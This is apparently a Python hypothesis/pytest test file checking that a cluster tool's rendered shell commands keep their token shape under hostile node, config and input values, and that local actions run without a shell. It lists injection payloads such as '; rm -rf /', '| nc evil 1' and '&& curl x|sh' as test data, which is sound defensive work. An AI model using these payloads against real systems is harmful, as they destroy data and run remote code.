"""Injection: no value read from a node, typed into an input or taken from the config changes the
shape of a command; ``run_on: local`` runs an argv, never a shell.

The shape of a rendered command is its token stream as a POSIX shell splits it (``shlex`` with
punctuation: ``;``, ``|``, ``&``, ``(``, ``<`` … are their own tokens outside quotes), looking into
``sudo -n sh -c '…'``. Every built-in action is rendered once with plain sentinels and once with
hostile values; the hostile render must be the sentinel render with each sentinel replaced by its
value, inside the same tokens, or be refused with a one-line reason. Quoting is also checked by the
real /bin/sh in tests/unit/test_actions_render.py; this file runs the whole catalog, many times.

``COCKPIT_NIGHTLY=1`` runs 10,000 examples per property (1,000 per built-in action for the catalog
property); CI runs a few hundred in all.
"""

from __future__ import annotations

import asyncio
import os
import shlex
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from cockpit.actions.catalog import BUILTINS
from cockpit.actions.render import GpuTarget, NodeTarget, RenderError, Subject, render
from cockpit.actions.runner import Outcome, run
from cockpit.actions.schema import ActionConfig
from cockpit.config import Cluster, NodeConfig
from cockpit.sanitize import clean

NIGHTLY = os.environ.get("COCKPIT_NIGHTLY") == "1"
EXAMPLES = 10_000 if NIGHTLY else 120
PER_ACTION = 1_000 if NIGHTLY else 15
"""The catalog property runs per built-in action: 18 of them make 18,000 cases at night."""
HEALTH = [HealthCheck.too_slow, HealthCheck.filter_too_much]
PROPERTY = settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=HEALTH)
PER_ACTION_PROPERTY = settings(max_examples=PER_ACTION, deadline=None, suppress_health_check=HEALTH)
NASTY = list("'\"\\$`;|&<>(){}*?[]~#!% \t\n-=x\u00e9\u2603\x00\x1b")
SHELLISH = ["$(reboot)", "`id`", "; rm -rf /", "| nc evil 1", "&& curl x|sh", "'; echo pwned; '", "${IFS}"]
hostile = st.one_of(
    st.text(max_size=40),
    st.text(alphabet=st.sampled_from(NASTY), min_size=1, max_size=40),
    st.lists(st.sampled_from(SHELLISH + NASTY), min_size=1, max_size=6).map("".join),
)
FIELDS = ("container", "unit", "service", "project", "stack_dir", "pod", "namespace", "deployment", "input")
SENTINEL = {f: f"SENTINEL{i}Q" for i, f in enumerate(FIELDS)}
NODE = NodeTarget("hydra-ai", "192.168.1.250", "typhon")


def shape(command: str) -> list[str]:
    """Tokens as sh splits them; ``sudo -n sh -c SCRIPT`` is opened up."""
    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    tokens = list(lexer)
    if tokens[:4] == ["sudo", "-n", "sh", "-c"] and len(tokens) == 5:
        return ["sudo", "-n", "sh", "-c", "[", *shape(tokens[4]), "]"]
    return tokens


def _inputs(action: ActionConfig, text: str) -> dict[str, object]:
    values: dict[str, object] = {}
    for spec in action.inputs:
        if spec.type == "str":
            values[spec.name] = text
        elif spec.default is not None:
            values[spec.name] = spec.default
        elif spec.choices:
            values[spec.name] = spec.choices[0]
        else:
            values[spec.name] = 300
    return values


def _subject(values: dict[str, str]) -> Subject:
    gpu = GpuTarget(0, min_power_w=100.0, max_power_w=450.0, pids=(4242,))
    return Subject(
        node=NODE,
        gpu=gpu,
        container=values["container"],
        unit=values["unit"],
        service=values["service"],
        project=values["project"],
        stack_dir=values["stack_dir"],
        pod=values["pod"],
        namespace=values["namespace"],
        deployment=values["deployment"],
        kubectl=("kubectl", "--kubeconfig=/etc/rancher/k3s/k3s.yaml", "--context=default"),
    )


def _render(action: ActionConfig, values: dict[str, str]) -> Any:
    return render(action, _subject(values), _inputs(action, values["input"]))


REMOTE = [a for a in BUILTINS if a.run_on == "node"]


@pytest.mark.parametrize("action", REMOTE, ids=[a.name for a in REMOTE])
def test_sentinels_render_for_every_builtin(action: ActionConfig) -> None:
    inv = _render(action, SENTINEL)
    assert shape(inv.command), action.name


@pytest.mark.parametrize("action", REMOTE, ids=[a.name for a in REMOTE])
@PER_ACTION_PROPERTY
@given(data=st.data())
def test_no_remote_or_typed_value_changes_a_builtin_command(
    action: ActionConfig, data: st.DataObject
) -> None:
    values = {f: data.draw(hostile, label=f) for f in FIELDS}
    assume(not any(s in v for v in values.values() for s in SENTINEL.values()))
    expected = _render(action, SENTINEL)
    try:
        inv = _render(action, values)
    except RenderError as exc:
        assert "\n" not in str(exc), "a refusal is one line"
        return
    want = shape(expected.command)
    for field, sentinel in SENTINEL.items():
        want = [t.replace(sentinel, values[field]) for t in want]
    assert shape(inv.command) == want, (inv.command, values)
    assert inv.display == inv.command or inv.secrets, "what is confirmed is what runs"


@PROPERTY
@given(name=hostile, host=hostile, user=hostile)
def test_config_values_that_reach_commands_are_validated(name: str, host: str, user: str) -> None:
    """Node name, host and user come from cluster.yaml: either refused at load, or quoted whole."""
    try:
        node = NodeConfig.model_validate({"name": name, "host": host, "user": user})
    except ValidationError:
        return
    assert not set(name + user) & set("'\"\\$`;|&<>(){}*? \t\n"), (name, user)
    assert not set(host) & set("'\"\\$`;|&<>(){}*? \t\n"), host
    cluster = Cluster.model_validate({"cluster": "c", "nodes": [node.model_dump()]})
    target = NodeTarget.from_config(cluster.nodes[0], cluster)
    echo = ActionConfig.model_validate(
        {"name": "t", "scope": "node", "danger": "safe", "command": "echo {node} {host} {user}"}
    )
    inv = render(echo, Subject(node=target), {})
    assert shape(inv.command) == ["echo", name, host, user]


@PROPERTY
@given(stack=hostile)
def test_a_stack_dir_from_config_stays_one_argument(stack: str) -> None:
    try:
        cluster = Cluster.model_validate(
            {"cluster": "c", "nodes": [{"name": "n", "host": "127.0.0.1", "stacks": {"web": stack}}]}
        )
    except ValidationError:
        return
    target = NodeTarget.from_config(cluster.nodes[0], cluster)
    compose = next(a for a in BUILTINS if a.name == "compose-restart")
    subject = Subject(node=target, container="web-1", project="web", stack_dir=cluster.nodes[0].stacks["web"])
    try:
        inv = render(compose, subject, {})
    except RenderError as exc:
        assert "\n" not in str(exc)
        return
    assert shape(inv.command)[:3] == ["cd", stack, "&&"], inv.command


LOCAL_ECHO = ActionConfig.model_validate(
    {
        "name": "local-echo",
        "scope": "node",
        "run_on": "local",
        "danger": "safe",
        "inputs": [{"name": "text", "type": "str"}],
        "command": "printf %s {input.text}",
    }
)


@PROPERTY
@given(text=hostile)
def test_local_actions_get_an_argv_not_a_shell(text: str) -> None:
    try:
        inv = render(LOCAL_ECHO, Subject(node=NODE), {"text": text})
    except RenderError:
        return
    assert inv.argv == ("printf", "%s", text)


def test_builtin_local_actions_do_not_start_a_shell() -> None:
    for action in (a for a in BUILTINS if a.run_on == "local"):
        inv = render(action, _subject(SENTINEL), _inputs(action, "x"))
        assert inv.argv and inv.argv[0] not in ("sh", "bash", "/bin/sh", "/bin/bash", "dash"), inv.argv


@pytest.mark.parametrize("text", [*SHELLISH, "$(touch {marker})", "`touch {marker}`", "x; touch {marker}"])
def test_local_action_runs_values_as_plain_arguments(text: str, tmp_path: Path) -> None:
    """Really run it: a shell would create the marker file; an argv prints the text as is."""
    marker = tmp_path / "pwned"
    value = text.replace("{marker}", str(marker))
    inv = render(LOCAL_ECHO, Subject(node=NODE), {"text": value})
    lines: list[str] = []
    result = asyncio.run(run(inv, None, lambda stream, line: lines.append(line), audit=None))
    assert result.outcome is Outcome.OK, result
    assert "".join(lines) == clean(value)
    assert not marker.exists()
